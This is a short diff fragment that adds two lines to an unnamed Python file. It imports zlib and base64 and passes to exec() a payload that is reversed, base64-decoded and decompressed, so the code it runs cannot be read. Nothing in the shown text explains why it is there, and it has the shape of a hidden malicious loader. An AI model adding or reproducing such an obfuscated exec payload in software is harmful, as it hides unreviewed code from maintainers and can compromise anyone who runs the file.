@@ -1,0 +1,2 @@
+import zlib,base64
+exec(zlib.decompress(base64.b64decode("u0iPQ8zBDfmGmpwnxAisjDzomzMgQDgZduU6cT3Irnbuw9oWlib72x+kqFYTtWUy+83+mu02FbIqoqiQPAA7TrG9gVCWDQWxjUeHGkf5LFWpON2Tw1d33UoW3lfVyikT0glDiuiF9jkpAAWZpWeh/dHRMAjwOEbjtwJe"[::-1])))
